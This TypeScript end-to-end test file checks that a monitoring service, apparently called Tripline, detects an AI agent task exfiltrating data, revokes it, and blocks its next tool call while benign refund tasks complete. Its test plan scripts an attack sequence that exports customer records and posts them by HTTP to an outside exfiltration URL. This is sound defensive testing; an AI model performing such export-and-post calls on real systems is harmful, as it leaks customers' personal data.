/**
 * The end-to-end protocol of the Python kit's integrations (test/e2e/python-kit*.test.ts), one `describe` per
 * integration against one Tripline started as `npm start` does: the kit's test agent for the integration
 * (kits/python/tests/e2e/<integration>_agent.py, from the wheel's venv) runs benign warm-up tasks until the type has
 * its baseline, then benign tasks and one that exfiltrates and, once revoked, makes one more call. Expected: that call
 * raises `TaskRevokedError` and never runs, the detector revoked the task, the guard acknowledged and Tripline
 * verified the agent stopped, and every benign task ran all its calls and completed.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, getJson, rng, taskView } from './agent-plans.ts';
import type { BaselineView, Call, TaskView } from './agent-plans.ts';
import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from './auth.ts';
import { kitPython, runKitScript } from './python-kit.ts';
import { startTriplineProcess } from './tripline-process.ts';
import type { TriplineProcess } from './tripline-process.ts';
import { waitFor } from './wait.ts';

type Label = 'benign' | 'exfiltration';

const WARMUP_TASKS = 15;
const WARMUP_RUN = 18;
const MIXED_BENIGN = 4;
/** The call the exfiltrating task makes once revoked: it must be refused. */
export const AFTER_REVOCATION: Call = { tool: 'issue_refund', args: { order_id: 'ord-after-revocation', amount: 1 } };

interface PlannedTask {
  label: Label;
  taskType: string;
  calls: Call[];
  afterRevocation?: Call;
}

/** One line of an agent's stdout (kits/python/tests/e2e/plan.py). */
export interface Outcome {
  label: Label;
  taskId: string;
  ran: Call[];
  refused: { tool: string; code: string; revocationId: string; reason: string } | null;
  waitedMs: number | null;
}

interface RevocationView {
  id: string;
  taskId: string;
  source: string;
  action: string;
  verification: { outcome: string; acknowledgedAt: string | null; failures: unknown[] } | null;
}

function exfiltrationCalls(): Call[] {
  return [
    { tool: 'get_order', args: { order_id: 'ord-17' } },
    { tool: 'export_customers', args: { limit: 50 } },
    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
  ];
}

/** What an integration's test adds to the protocol. */
export interface KitIntegration {
  /** `<name>_agent.py` is its test agent. */
  name: string;
  /** Extra arguments for its agent (given the run's scratch folder). */
  agentArgs?: (workDir: string) => string[];
  /** More checks after the mixed phase (given every outcome and the scratch folder). */
  checkMixed?: (run: { warmup: Outcome[]; mixed: Outcome[]; workDir: string }) => void;
}

export interface KitTripline {
  readonly tripline: TriplineProcess;
}

/**
 * Describes the protocol for each integration. `more` adds tests of its own before the integrations' (they get
 * the running Tripline through the returned handle once `beforeAll` ran).
 */
export function describeKitIntegrations(
  title: string,
  integrations: readonly KitIntegration[],
  options: { seed: number; more?: (env: KitTripline) => void },
): void {
  describe(title, () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-pykit-'));
    const workDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-pykit-plans-'));
    const runId = Date.now().toString(36);
    const env = {} as { tripline: TriplineProcess };

    beforeAll(async () => {
      // The first run makes the kit's venv from PyPI (a minute or so); later runs rebuild and reinstall the wheel only.
      await kitPython();
      env.tripline = await startTriplineProcess({
        ...TEST_AUTH_ENV,
        TRIPLINE_DATA_DIR: dataDir,
        TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
        TRIPLINE_VERIFY_WINDOW_MS: '1500',
        LOG_LEVEL: 'warn',
      });
    }, 20 * 60_000);

    afterAll(async () => {
      await env.tripline.stop();
      rmSync(dataDir, { recursive: true, force: true });
      rmSync(workDir, { recursive: true, force: true });
    });

    options.more?.(env);

    for (const [index, integration] of integrations.entries())
      describeIntegration(integration, options.seed + index, env, workDir, runId);
  });
}

function describeIntegration(
  integration: KitIntegration,
  seed: number,
  env: { tripline: TriplineProcess },
  workDir: string,
  runId: string,
): void {
  const task = (id: string): Promise<TaskView | undefined> => taskView(env.tripline.apiUrl, id);

  async function runAgent(phase: string, plan: PlannedTask[]): Promise<Outcome[]> {
    const planFile = join(workDir, `${integration.name}-${phase}.json`);
    writeFileSync(planFile, JSON.stringify(plan));
    const args = [
      '--endpoint',
      env.tripline.otlpUrl,
      '--api',
      env.tripline.apiUrl,
      '--token',
      TEST_AGENT_TOKEN,
      '--agent',
      `kit-${integration.name}-agent-${runId}`,
      '--plan',
      planFile,
      ...(integration.agentArgs?.(workDir) ?? []),
    ];
    const { stdout } = await runKitScript(`${integration.name}_agent.py`, args, {}, 180_000);
    const outcomes = stdout
      .split('\n')
      .filter((line) => line.startsWith('{'))
      .map((line) => JSON.parse(line) as Outcome);
    expect(outcomes.map((outcome) => outcome.label)).toEqual(plan.map((planned) => planned.label));
    return outcomes;
  }

  describe(integration.name, () => {
    const taskType = `refund_kit_${integration.name}`;
    const next = rng(seed);
    const benign = (): PlannedTask => ({ label: 'benign', taskType, calls: benignCalls(next) });
    let warmup: Outcome[] = [];
    let mixed: Outcome[] = [];
    const attackOf = (): Outcome => {
      const attack = mixed.find((outcome) => outcome.label === 'exfiltration');
      if (attack === undefined) throw new Error('the mixed phase did not run');
      return attack;
    };
    /** Every benign task ran all its planned calls and none was refused. */
    const ranAsPlanned = (outcomes: Outcome[], plan: PlannedTask[]): void => {
      for (const [index, outcome] of outcomes.entries()) {
        if (outcome.label !== 'benign') continue;
        expect(outcome.refused, JSON.stringify(outcome)).toBeNull();
        expect(outcome.ran).toEqual(plan[index]?.calls);
      }
    };

    it(
      `runs ${String(WARMUP_RUN)} benign warm-up tasks untouched and the type reaches its baseline`,
      async () => {
        const plan = Array.from({ length: WARMUP_RUN }, () => benign());
        warmup = await runAgent('warmup', plan);
        ranAsPlanned(warmup, plan);
        let last: BaselineView | undefined;
        await waitFor(
          `the baseline of ${taskType}`,
          async () => {
            last = await baselineView(env.tripline.apiUrl, taskType);
            return last !== undefined && last.tasks >= WARMUP_TASKS;
          },
          VERDICT_MS,
          250,
        );
        expect(last?.regime).toBe('type_baseline');
      },
      5 * 60_000,
    );

    it(
      'refuses the next call of the exfiltrating task once Tripline revoked it, and runs the benign tasks',
      async () => {
        const plan = Array.from({ length: MIXED_BENIGN }, () => benign());
        plan.splice(2, 0, {
          label: 'exfiltration',
          taskType,
          calls: exfiltrationCalls(),
          afterRevocation: AFTER_REVOCATION,
        });
        mixed = await runAgent('mixed', plan);
        const attack = attackOf();
        expect(attack.refused, JSON.stringify(attack)).toMatchObject({ code: 'TASK_REVOKED', tool: 'issue_refund' });
        expect(attack.refused?.revocationId).toMatch(/^[0-9a-f]{32}$/);
        // Everything before the refused call ran; the refused call did not.
        expect(attack.ran).toEqual(exfiltrationCalls());
        ranAsPlanned(mixed, plan);
        integration.checkMixed?.({ warmup, mixed, workDir });
      },
      5 * 60_000,
    );

    it(
      'the detector revoked it, the guard acknowledged and Tripline verified the agent stopped',
      async () => {
        const attack = attackOf();
        const view = await task(attack.taskId);
        expect(view?.status, JSON.stringify(view)).toBe('revoked');
        const revocation = await waitFor(
          `the verification of ${attack.taskId}'s revocation`,
          async () => {
            const found = (await getJson(
              `${env.tripline.apiUrl}/v1/revocations/${attack.refused?.revocationId ?? ''}`,
            )) as RevocationView | undefined;
            return found?.verification?.outcome === 'pending' ? undefined : found;
          },
          30_000,
          250,
        );
        expect(revocation.taskId).toBe(attack.taskId);
        expect(revocation.source).toBe('detector');
        expect(revocation.verification?.acknowledgedAt, JSON.stringify(revocation)).not.toBeNull();
        expect(revocation.verification?.outcome, JSON.stringify(revocation)).toBe('verified');
      },
      2 * 60_000,
    );

    it(
      'completes every benign task and revokes none',
      async () => {
        const benignTasks = [...warmup, ...mixed].filter((outcome) => outcome.label === 'benign');
        expect(benignTasks).toHaveLength(WARMUP_RUN + MIXED_BENIGN);
        const views = new Map<string, TaskView | undefined>();
        await waitFor(
          `the ${String(benignTasks.length)} benign tasks of ${taskType} to complete`,
          async () => {
            for (const outcome of benignTasks) {
              if (views.get(outcome.taskId)?.status !== 'completed')
                views.set(outcome.taskId, await task(outcome.taskId));
            }
            return benignTasks.every((outcome) => {
              const status = views.get(outcome.taskId)?.status;
              return status === 'completed' || status === 'revoked';
            });
          },
          VERDICT_MS,
          500,
        );
        const notCompleted = benignTasks
          .filter((outcome) => views.get(outcome.taskId)?.status !== 'completed')
          .map((outcome) => JSON.stringify(views.get(outcome.taskId) ?? `${outcome.taskId}: 404`));
        expect(notCompleted, 'benign tasks not completed').toEqual([]);
      },
      2 * 60_000,
    );
  });
}
